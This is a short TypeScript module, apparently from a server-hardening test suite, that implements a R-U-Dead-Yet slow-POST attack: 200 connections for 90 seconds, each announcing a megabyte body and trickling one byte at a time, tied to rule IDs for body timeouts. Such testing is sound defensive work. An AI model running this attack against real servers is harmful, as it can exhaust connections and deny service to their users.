/** R-U-Dead-Yet: a form that is sent a byte at a time. A limit for silence never has a silence to measure. */

import type { Attack } from './shared/attack.ts';
import { hold } from './shared/hold.ts';

export default {
  does: 'promises bodies of a megabyte, and sends a byte of each now and then',
  rules: ['8.2/slow-body', '8.2/unread-body'],
  connections: 200,
  seconds: 90,
  run: async (target) => await hold(target, {
    what: 'half-sent bodies',
    begin: (client) => client.write(`${target.head('POST')}Content-Type: text/plain\r\nContent-Length: 1000000\r\n\r\n`),
    goOn: (client) => client.write('x'),
  }),
} satisfies Attack;
